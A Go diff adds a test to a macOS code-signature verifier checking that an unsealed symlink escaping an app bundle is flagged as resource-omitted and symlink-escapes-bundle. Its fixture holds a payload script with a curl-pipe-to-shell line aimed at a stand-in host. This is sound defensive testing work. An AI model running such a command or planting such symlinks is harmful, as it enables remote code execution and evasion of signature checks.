@@ -2,6 +2,7 @@ package codesign
 
 import (
 	"io/fs"
+	"slices"
 	"testing"
 	"testing/fstest"
 
@@ -221,5 +222,57 @@ func TestAttackResourceOmittedByOwnRule(t *testing.T) {
 	want := "warning Example.app/Contents/Resources/data/update.sh"
 	if len(got) != 1 || got[0] != want {
 		t.Errorf("resource-omitted findings %q, want [%s]\n%s", got, want, dumpBundle(res))
+	}
+}
+
+// TestAttackResourceOmittedSymlink: a symlink the seal's own omit rule
+// leaves unsealed (Resources/data/update.sh, pointing out of the bundle)
+// passed without a word, where a file there was
+// codesign/resource-omitted. It is that warning now, and
+// codesign/symlink-escapes-bundle for pointing out; a .DS_Store link,
+// which codesign's own rules omit, is not resource-omitted.
+func TestAttackResourceOmittedSymlink(t *testing.T) {
+	p := machofile.NewPKI()
+	seal, err := plist.MarshalIndent(map[string]any{
+		"files2": map[string]any{},
+		"rules2": map[string]any{
+			"^.*":                 map[string]any{},
+			"^Info\\.plist$":      map[string]any{"omit": true, "weight": 20.0},
+			"^(.*/)?\\.DS_Store$": map[string]any{"omit": true, "weight": 2000.0},
+			"^Resources/data/":    map[string]any{"omit": true, "weight": 50.0},
+		},
+	}, plist.XMLFormat, "\t")
+	if err != nil {
+		t.Fatal(err)
+	}
+	info := machofile.InfoPlist("Example", "com.example.app")
+	spec := p.DeveloperIDSpec("com.example.app")
+	spec.InfoPlist, spec.CodeResources = info, seal
+	exe, _, err := machofile.Sign(machofile.Build(machofile.Spec{Seed: 53, CodeSize: 5000}), spec)
+	if err != nil {
+		t.Fatal(err)
+	}
+	app := map[string]machofile.BundleFile{
+		"Example.app/Contents/Info.plist":                   {Data: info},
+		"Example.app/Contents/MacOS/Example":                {Data: exe, Mode: 0o755},
+		"Example.app/Contents/_CodeSignature/CodeResources": {Data: seal},
+		"Example.app/Contents/Resources/.DS_Store":          {Link: "../Info.plist"},
+		"Example.app/Contents/Resources/data/update.sh":     {Link: "../../../../payload.sh"},
+		"payload.sh": {Data: []byte("#!/bin/sh\ncurl -s https://example.invalid/p | sh\n"), Mode: 0o755},
+	}
+	res, err := VerifyBundle(bundleFS(app), "Example.app", Options{Trust: testTrust(t), Time: checkTime})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, f := range res.Findings {
+		if f.Rule == RuleResourceOmitted || f.Rule == RuleSymlinkEscapesBundle {
+			got = append(got, string(f.Rule)+" "+f.Path)
+		}
+	}
+	slices.Sort(got)
+	want := []string{string(RuleResourceOmitted) + " Example.app/Contents/Resources/data/update.sh", string(RuleSymlinkEscapesBundle) + " Example.app/Contents/Resources/data/update.sh"}
+	if !slices.Equal(got, want) {
+		t.Errorf("findings %q, want %q\n%s", got, want, dumpBundle(res))
 	}
 }
